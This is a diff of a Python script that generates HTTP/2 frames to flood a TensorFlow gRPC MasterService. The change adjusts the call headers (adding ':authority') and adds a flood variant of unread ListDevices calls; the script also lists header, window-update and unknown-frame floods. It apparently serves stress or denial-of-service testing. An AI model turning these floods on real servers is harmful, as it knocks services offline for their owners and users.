@@ -48,12 +48,13 @@ def field(name, value):
 
 
 METHOD = b"/tensorflow.MasterService/ListDevices"
-CALL = (
+CALL_WITHOUT_AUTHORITY = (
     b"\x83\x86"
     + field(b":path", METHOD)
     + field(b"content-type", b"application/grpc")
     + field(b"te", b"trailers")
 )
+CALL = CALL_WITHOUT_AUTHORITY[:2] + field(b":authority", b"a") + CALL_WITHOUT_AUTHORITY[2:]
 
 
 def endless_headers(start, piece):
@@ -105,10 +106,18 @@ def window_updates():
 
 def calls_without_reading():
     """Calls whose answers the client does not read."""
+    return calls(CALL)
+
+
+def wrong_calls_without_reading():
+    """gRPC refuses them before the server sees them."""
+    return calls(CALL_WITHOUT_AUTHORITY)
+
+
+def calls(headers):
     for first in range(1, 1 << 31, 2000):
-        message = frame(DATA, END_STREAM, 0, b"\0" * 5)
         yield b"".join(
-            frame(HEADERS, END_HEADERS, s, CALL) + message[:5] + struct.pack(">I", s) + message[9:]
+            frame(HEADERS, END_HEADERS, s, headers) + frame(DATA, END_STREAM, s, b"\0" * 5)
             for s in range(first, first + 2000, 2)
         )
 
@@ -168,6 +177,7 @@ FLOODS = (
     window_updates,
     unknown_frames,
     calls_without_reading,
+    wrong_calls_without_reading,
 )
 
 
